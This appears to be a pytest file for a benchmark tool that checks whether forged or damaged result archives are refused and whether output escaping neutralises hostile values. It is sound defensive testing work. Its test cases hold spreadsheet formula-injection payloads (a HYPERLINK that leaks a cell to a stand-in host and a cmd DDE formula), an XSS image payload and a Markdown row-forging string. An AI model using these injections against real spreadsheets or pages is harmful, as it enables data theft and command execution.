"""GrokBench evidence is data, never authority (Reliability V): a damaged or forged packed benchmark is refused in
one line before anything is written, and every output escapes what it shows."""
import gzip
import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from groklab.cli import main
from groklab.store.escape import csv_cell, md_cell

ARCHIVE = Path(__file__).resolve().parents[2] / "results" / "grokbench-quick"
FILES = ("runs.csv.gz", "runs.json", "protocol.json", "selection.json")


@pytest.fixture(scope="module")
def packed(tmp_path_factory):
    g = tmp_path_factory.mktemp("g")
    for name in FILES:
        shutil.copy(ARCHIVE / name, g / name)
    return g


def _rows(g: Path) -> pd.DataFrame:
    with gzip.open(g / "runs.csv.gz", "rb") as f:
        return pd.read_csv(io.BytesIO(f.read()))


def _write_rows(g: Path, rows: pd.DataFrame) -> None:
    (g / "runs.csv.gz").write_bytes(gzip.compress(rows.to_csv(index=False).encode()))


def _edit_json(g: Path, name: str, edit) -> None:
    doc = json.loads((g / name).read_text())
    edit(doc)
    (g / name).write_text(json.dumps(doc))


def _methods(name):
    return lambda d: d.__setitem__("methods", {name if k == "adam" else k: v for k, v in d["methods"].items()})


def _runs_without_steps(d):
    for e in d.values():
        e["overrides"] = [o for o in e["overrides"] if not o.startswith("steps=")]


CASES = {
    "duplicated rows claiming test acc 1.0 at step 0":
        lambda g: _write_rows(g, pd.concat([_rows(g), _rows(g).query("run.str.startswith('eval/add/adam/')",
                                                                     engine="python").assign(step=0)])),
    "rows of a run runs.json does not declare":
        lambda g: _write_rows(g, pd.concat([_rows(g), _rows(g).query("run == 'eval/add/adam/s0'").assign(
            run="eval/add/adam/s99")])),
    "a method named as a spreadsheet formula": lambda g: _edit_json(g, "protocol.json",
                                                                    _methods('=HYPERLINK("http://x/?"&A1,"c")')),
    "a method named as markup": lambda g: _edit_json(g, "protocol.json", _methods("<img src=x onerror=alert(1)>")),
    "a method name forging Markdown rows": lambda g: _edit_json(g, "protocol.json", _methods("x | 1 |\n| FORGED")),
    "a chosen value keyed by a formula": lambda g: _edit_json(
        g, "selection.json", lambda d: d["add"]["adam"].__setitem__("values", {"=cmd|' /C calc'!A0": 1.0})),
    "runs without their horizon": lambda g: _edit_json(g, "runs.json", _runs_without_steps),
}


@pytest.mark.parametrize("case", list(CASES))
def test_forged_or_damaged_evidence_is_refused_in_one_line_before_any_write(case, packed, tmp_path, capsys):
    g = tmp_path / "g"
    shutil.copytree(packed, g)
    CASES[case](g)
    out = tmp_path / "out"
    assert main(["grokbench", "--from", str(g), "--out", str(out)]) == 2, case
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("groklab: error:"), err
    assert not out.exists()  # refused before the first write


def test_escape_helpers_neutralise_a_hostile_corpus():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("\t=x") == "'\t=x"
    assert csv_cell(-3.5) == -3.5 and csv_cell("adamw") == "adamw"
    cell = md_cell("x | 1 |\n| FORGED <img src=x>")
    assert "\n" not in cell and "| " not in cell.replace("\\|", "") and "<img" not in cell
